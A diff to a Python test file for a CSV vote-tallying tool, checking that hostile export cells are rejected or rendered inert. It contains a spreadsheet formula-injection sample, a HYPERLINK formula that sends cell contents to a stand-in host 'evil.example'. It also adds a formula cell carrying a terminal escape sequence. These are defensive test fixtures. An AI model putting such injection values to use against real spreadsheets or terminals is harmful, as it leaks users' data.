@@ -341,7 +341,7 @@ def test_results_page_csv_and_chart_are_inert(hostile):
         '\'=HYPERLINK("https://evil.example/?x="&A1,"klik") +1 -1 @SUM(1)'
     ]
     rejected = (results / "rejected.csv").read_text("utf-8")
-    assert "the time '2024/01/30 11:00:00 AM" in rejected and "' cannot be read" in rejected
+    assert "unknown poster '@SUM(A1)'" in rejected
     svg = ET.fromstring((results / "results.svg").read_text("utf-8"))
     names = {el.tag.split("}")[1] for el in svg.iter()}
     assert names <= {"svg", "title", "text", "g", "rect"}, names
@@ -756,18 +756,25 @@ def test_export_cells_too_long_for_csv_or_for_a_time_are_rejected_rows(project):
         "Timestamp,poster,token\n"
         f"2024/01/30 9:00:00 AM GMT+7,las-smaw,{'1' * 32}\n"
         f'2024/01/30 9:01:00 AM GMT+7,las-smaw,"{"x" * 200_000}"\n'
-        f"2024/01/30 9:02:00 AM{' ' * 20_000}x,las-smaw,\n"
         f"2024/01/30 9:03:00 AM GMT+7,las-smaw,{'2' * 32}\n"
     ).encode()
     result = tally.count_votes(export, vote, posters, EN)
-    assert [(r.line, r.kind) for r in result.rejected] == [(3, "malformed"), (4, "time")]
+    assert [(r.line, r.kind) for r in result.rejected] == [(3, "malformed")]
     assert result.rejected[0].reason == (
         "this row cannot be read as CSV (a value is far too long, or its quotes do not match)"
     )
-    assert result.rows == 4 and len(result.accepted) == 2
-    old_mac = export.replace(b"\n", b"\r").replace(b"x" * 200_000, b"y").replace(b" " * 20_000, b" ")
+    assert result.rows == 3 and len(result.accepted) == 2
+    old_mac = export.replace(b"\n", b"\r").replace(b"x" * 200_000, b"y")
     again = tally.count_votes(old_mac, vote, posters, EN)
-    assert again.rows == 4 and [r.line for r in again.rejected] == [3, 4]
+    assert again.rows == 3 and [r.line for r in again.rejected] == [3]
+    # A time cell far too long, or a formula, stops the count, and is shown cut short and inert.
+    hostile = export + f"2024/01/30 9:02:00 AM{' ' * 20_000}x,las-smaw,\n=1+1\x1b[2J,las-smaw,\n".encode()
+    with pytest.raises(tally.ExportError) as refused:
+        tally.count_votes(hostile, vote, posters, EN)
+    assert refused.value.message.splitlines()[:2] == [
+        "line 5: the time '2024/01/30 9:02:00 AM" + " " * 38 + "…' cannot be read.",
+        "line 6: the time '=1+1\\x1b[2J' cannot be read.",
+    ]
 
 
 def test_tally_prints_export_values_with_control_characters_made_visible(project, tmp_path):
